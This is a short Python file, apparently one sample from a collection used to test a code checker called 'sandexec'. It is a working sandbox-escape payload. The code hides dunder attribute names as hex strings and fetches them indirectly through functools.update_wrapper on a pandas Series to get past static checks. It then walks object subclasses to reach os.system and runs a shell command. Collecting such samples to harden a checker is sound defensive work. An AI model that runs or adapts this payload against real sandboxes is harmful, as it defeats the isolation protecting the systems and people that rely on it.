# Source: black-box attack on sandexec's check, 2026-11-26; family: getattr by name through functools.update_wrapper/wraps
# Verified to run in sandexec-python:bookworm when unchecked.
import functools
import pandas as pd
def s(h):
    return bytes.fromhex(h).decode()
def ga(obj, name):
    box = pd.Series({name: 0}, dtype=object)
    functools.update_wrapper(box, obj, assigned=(name,), updated=())
    return box[name]
for c in ga(object, s("5f5f737562636c61737365735f5f"))():   # object.__subclasses__()
    if c.__name__ == "_wrap_close":
        ga(c.close, s("5f5f676c6f62616c735f5f"))[s("73797374656d")]("id; echo SUBCLASS-WALK")
